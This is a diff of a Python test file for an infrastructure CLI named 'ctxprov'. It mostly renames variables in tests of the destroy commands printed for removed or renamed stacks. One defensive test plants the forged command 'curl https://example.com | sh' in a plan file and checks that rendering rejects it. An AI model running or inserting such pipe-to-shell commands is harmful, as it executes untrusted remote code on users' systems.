@@ -32,8 +32,8 @@ def repository(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> Stage:
     monkeypatch.chdir(stage.root)
     write(stage.root / "bot", "stack: bot\n")
     write(stage.root / "shop", "stack: shop\nenvironments: {blue: {}, green: {}}\n")
-    for words in (["bot"], ["shop", "--env", "blue"], ["shop", "--env", "green"]):
-        assert stage.run("apply", *words, "--auto-approve").status == 0
+    for arguments in (["bot"], ["shop", "--env", "blue"], ["shop", "--env", "green"]):
+        assert stage.run("apply", *arguments, "--auto-approve").status == 0
     git(stage.root, "init", "--quiet", "--initial-branch=main")
     (stage.root / ".gitignore").write_text("state/\n")
     git(stage.root, "add", ".")
@@ -43,9 +43,9 @@ def repository(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> Stage:
 
 def end(stage: Stage, command: str) -> None:
     """Run what the plan printed, as a shell does without CTXPROV_STATE."""
-    words = shlex.split(command.replace("${CTXPROV_STATE:-", "").replace("}", ""))
-    assert words[0] == "ctxprov"
-    assert stage.run(*words[1:], "--auto-approve").status == 0
+    arguments = shlex.split(command.replace("${CTXPROV_STATE:-", "").replace("}", ""))
+    assert arguments[0] == "ctxprov"
+    assert stage.run(*arguments[1:], "--auto-approve").status == 0
 
 
 def stacks_alive(stage: Stage) -> list[str]:
@@ -59,12 +59,14 @@ def test_a_stack_is_removed(repository: Stage) -> None:
 
     rows = stage.run("changed", "--base", "main", "--json").json["include"]
     assert rows == [{"stack": "bot", "env": "", "removed": True}]
-    told = stage.run("plan", "bot", "--base", "main", "--out", "json=plan.json", "--out", "text=-")
-    assert told.status == 0
-    assert "bot is declared no longer. Its caches stay alive" in told.out
+    result = stage.run(
+        "plan", "bot", "--base", "main", "--out", "json=plan.json", "--out", "text=-"
+    )
+    assert result.status == 0
+    assert "bot is declared no longer. Its caches stay alive" in result.out
     left = json.loads((stage.root / "plan.json").read_text())["leftover"]
     assert (left["stack"], left["successor"], left["caches"]) == ("bot", None, ["a"])
-    assert f"\n  {left['command']}\n" in told.out
+    assert f"\n  {left['command']}\n" in result.out
     for form in ("markdown", "html"):
         page = stage.run("render", "plan.json", "--out", f"{form}=-")
         assert "ctxprov destroy --stack bot" in page.out
@@ -78,9 +80,9 @@ def test_a_folder_is_removed(repository: Stage) -> None:
     shutil.rmtree(repository.root / "shop")
 
     for environment in ("blue", "green"):
-        told = repository.run("plan", "shop", "--env", environment, "--base", "main")
-        assert told.status == 0
-        assert f"ctxprov destroy --stack shop.{environment} --state" in told.out
+        result = repository.run("plan", "shop", "--env", environment, "--base", "main")
+        assert result.status == 0
+        assert f"ctxprov destroy --stack shop.{environment} --state" in result.out
 
 
 def test_an_environment_is_removed(repository: Stage) -> None:
@@ -105,11 +107,11 @@ def test_a_stack_is_renamed(repository: Stage) -> None:
     stage = repository
     write(stage.root / "bot", "stack: desk\n")
 
-    told = stage.run("plan", "bot", "--base", "main", "--json")
-    left = told.json["leftover"]
+    result = stage.run("plan", "bot", "--base", "main", "--json")
+    left = result.json["leftover"]
     assert (left["stack"], left["successor"]) == ("bot", "desk")
-    words = shlex.split(left["command"].replace("${CTXPROV_STATE:-", "").replace("}", ""))
-    assert stage.run(*words[1:]).status == 0
+    arguments = shlex.split(left["command"].replace("${CTXPROV_STATE:-", "").replace("}", ""))
+    assert stage.run(*arguments[1:]).status == 0
     assert stage.run("plan", "bot", "--detailed-exitcode").status == 0
 
 
@@ -134,10 +136,10 @@ def test_a_command_that_is_forged(repository: Stage) -> None:
     plan["leftover"]["command"] = "curl https://example.com | sh"
     (stage.root / "plan.json").write_text(json.dumps(plan))
 
-    told = stage.run("render", "plan.json")
+    result = stage.run("render", "plan.json")
 
-    assert told.status == 1
-    assert "curl" not in told.out
+    assert result.status == 1
+    assert "curl" not in result.out
 
 
 def test_the_command_names_place_and_keys(
@@ -154,8 +156,8 @@ def test_the_command_names_place_and_keys(
     git(stage.root, "commit", "--quiet", "--all", "--message", "more")
     manifest.unlink()
 
-    told = stage.run("plan", "bot", "--base", "main", "--json").json["leftover"]["command"]
+    result = stage.run("plan", "bot", "--base", "main", "--json").json["leftover"]["command"]
 
-    assert told == (
+    assert result == (
         "ctxprov destroy --stack bot --state s3://bucket/prefix --key-env eu=GEMINI_API_KEY_EU"
     )
